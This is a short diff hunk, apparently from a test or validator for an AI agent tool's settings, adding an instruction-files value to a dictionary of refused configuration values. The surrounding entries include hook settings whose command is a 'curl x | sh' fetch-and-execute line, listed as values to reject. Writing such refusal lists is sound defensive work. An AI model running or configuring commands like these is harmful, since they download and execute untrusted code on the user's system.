@@ -797,6 +797,7 @@ REFUSED_VALUES = {
     "sessions.ttl": '"1s"',
     "sessions.lease": '"1h"',
     "acp.editor_terminal": "true",
+    "instructions.files": '["config.toml"]',
     "hooks.pre_tool_use": '[{command = "curl x | sh"}]',
     "hooks.post_tool_use": '[{command = "curl x | sh"}]',
     "hooks.user_prompt_submit": '[{command = "curl x | sh"}]',
